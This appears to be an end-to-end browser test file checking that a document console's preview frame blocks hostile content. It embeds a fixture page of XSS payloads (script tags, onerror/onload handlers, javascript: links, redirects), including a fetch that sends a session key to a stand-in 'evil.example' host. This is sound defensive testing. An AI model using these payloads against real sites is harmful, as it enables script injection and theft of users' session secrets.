import { expect } from 'chai';
import type { Page } from 'playwright-core';
import { BLOCK_TYPES, CONTENT_TYPES } from '../../src/domain/document.js';
import { HOSTILE_CONTENT } from '../support/hostile-content.js';
import { describeConsole, signInto, type Visit } from './support/suite.js';

const TITLE_LENGTH = 500;

/** A page that the viewer would never make. */
const EVIL_PAGE = `<!doctype html><html><head>
<base href="https://evil.example/" target="_top">
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<link rel="stylesheet" href="https://evil.example/x.css"><link rel="prefetch" href="https://evil.example/prefetch">
<script src="https://evil.example/x.js"></script>
<script>alert(1); parent.ran = true; fetch('https://evil.example/' + sessionStorage['quire.key'])</script></head>
<body onload="alert(2)"><p>Evil words.</p><img src="x" onerror="alert(3)">
<svg onload="alert(4)"><script>alert(5)</script></svg>
<iframe src="https://evil.example/frame"></iframe><iframe srcdoc="<script>alert(6)</script>"></iframe>
<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
<video src="https://evil.example/video" autoplay></video>
<form action="https://evil.example/form"><button id="send">Send</button></form>
<a id="top" target="_top" href="https://evil.example/top">Top</a>
<a id="script" href="javascript:alert(7)">Script</a>
<a id="blank" target="_blank" href="javascript:opener.ran = alert(8)">Blank</a>
<a id="named" target="named" href="javascript:opener.ran = alert(9)">Named</a>
<a id="self" target="_self" href="/console">Self</a></body></html>`;

/** Each of the two locks is opened by itself. */
const OPENED: Readonly<Record<string, (page: Page) => Promise<void>>> = {
  sandbox: (page) => changed(page, '**/console/assets/*.js', 'allow-same-origin', 'allow-scripts allow-same-origin'),
  policy: (page) => changed(page, '**/console', "script-src 'self'", "script-src 'self' 'unsafe-inline'"),
};

async function changed(page: Page, files: string, from: string, to: string): Promise<void> {
  await page.route(files, async (route) => {
    const response = await route.fetch();
    const policy = response.headers()['content-security-policy'];
    await route.fulfill({
      response,
      body: (await response.text()).replaceAll(from, to),
      ...(policy !== undefined && {
        headers: { ...response.headers(), 'content-security-policy': policy.replace(from, to) },
      }),
    });
  });
}

describeConsole('hostile content', ({ visit }) => {
  it('runs nothing and asks nobody, whatever is in titles, names, tags, blocks, metadata and labels', async () => {
    const visited = await visit({ keyOptions: { label: HOSTILE_CONTENT.join('') } });
    const { page, client, url } = visited;
    const { ids, folder } = await makeHostile(client);
    await page.goto(`${url}/console#/`);
    await page.reload();
    await page
      .locator('.documents li')
      .nth(ids.length - 1)
      .waitFor();
    await page.goto(`${url}/console#/folders/${folder}`);
    await page.getByRole('heading', { level: 1 }).waitFor();
    for (const id of ids) {
      await page.goto(`${url}/console#/documents/${id}/versions`);
      await page.frameLocator('iframe').locator('article').waitFor();
      await page.getByText('Version 2 (newest)').waitFor();
      await page.goto(`${url}/console#/documents/${id}/compare/1/2`);
      await page.locator('.sides .side').first().waitFor();
    }
    await page.goto(`${url}/console#/documents/${ids[0]}/edit`);
    await page.getByRole('button', { name: 'Preview' }).click();
    await page.frameLocator('iframe[title=Preview]').locator('h1').waitFor();
    // The viewer shows images over https, and so does the frame.
    const faults = visited.faults.filter((fault) => !fault.startsWith('image: https://a.example/'));
    expect(faults).to.deep.equal([]);
  });

  it('runs nothing and keeps the key from a page that was not made safe', async () => {
    const visited = await visit();
    const { page, client, url } = visited;
    const { id } = await client.createDocument({ title: 'Evil', blocks: [] });
    await page.route('**/view?*', (route) => route.fulfill({ contentType: 'text/html', body: EVIL_PAGE }));
    await page.goto(`${url}/console#/documents/${id}`);
    const frame = page.frameLocator('iframe');
    await frame.getByText('Evil words.').waitFor();
    const before = page.url();
    for (const click of ['#top', '#script', '#blank', '#named', '#send', '#self']) await frame.locator(click).click();
    await page.getByRole('heading', { name: 'Evil' }).waitFor();
    expect(page.url()).to.equal(before);
    expect(await page.evaluate('window.ran')).to.equal(undefined);
    // The user has clicked on it: it opened in a tab of its own, which may ask for it more than once. What images may
    // be asked for, a browser may prefetch.
    const faults = new Set(visited.faults.filter((fault) => fault !== 'other: https://evil.example/prefetch'));
    expect([...faults]).to.deep.equal(['document: https://evil.example/top']);
  });

  for (const [lock, open] of Object.entries(OPENED)) {
    it(`runs nothing from such a page even without the ${lock}`, async () => {
      const visited = await visit({ signIn: false });
      const { page, client, url } = visited;
      await open(page);
      await page.goto(`${url}/console#/`);
      await signInto(visited);
      const { id } = await client.createDocument({ title: 'Evil', blocks: [] });
      await page.route('**/view?*', (route) => route.fulfill({ contentType: 'text/html', body: EVIL_PAGE }));
      await page.goto(`${url}/console#/documents/${id}`);
      const frame = page.frameLocator('iframe');
      await frame.getByText('Evil words.').waitFor();
      for (const click of ['#script', '#blank', '#named']) await frame.locator(click).click();
      expect(await page.evaluate('window.ran')).to.equal(undefined);
      expect(visited.faults.filter((fault) => /^(?:dialog|error)/.test(fault))).to.deep.equal([]);
    });
  }

  it('opens links of a document in a tab that knows nothing of the console', async () => {
    const { page, client, url } = await visit();
    await page.context().route(/a\.example/, (route) => route.fulfill({ contentType: 'text/html', body: 'There.' }));
    const blocks = [{ type: 'paragraph' as const, content: '[Away](https://a.example/away)' }];
    const { id } = await client.createDocument({ title: 'Links', blocks });
    await page.goto(`${url}/console#/documents/${id}`);
    const [tab] = await Promise.all([
      page.context().waitForEvent('page'),
      page.frameLocator('iframe').getByText('Away').click(),
    ]);
    await tab.getByText('There.').waitFor();
    expect(await tab.evaluate('[window.opener, document.referrer]')).to.deep.equal([null, '']);
  });
});

async function makeHostile(client: Visit['client']): Promise<{ ids: string[]; folder: string }> {
  const name = HOSTILE_CONTENT[6]!.replaceAll('/', '|');
  const { id: folder } = await client.createFolder({ name });
  const ids: string[] = [];
  for (const contentType of CONTENT_TYPES) {
    const blocks = HOSTILE_CONTENT.map((content, at) => ({
      type: BLOCK_TYPES[at % BLOCK_TYPES.length]!,
      content,
      metadata: { language: content, url: content, alt: content },
    }));
    const metadata = { tags: HOSTILE_CONTENT.map((text) => text.slice(0, TITLE_LENGTH)), source: name, [name]: name };
    const title = `${HOSTILE_CONTENT[6]} ${contentType} ${HOSTILE_CONTENT.join(' ')}`.slice(0, TITLE_LENGTH);
    const document = { title, metadata, content_type: contentType };
    const { id } = await client.createDocument({ ...document, folder_id: folder, blocks });
    await client.pushVersion(id, { ...document, title: HOSTILE_CONTENT[0]!, blocks: blocks.toReversed() });
    ids.push(id);
  }
  return { ids, folder };
}
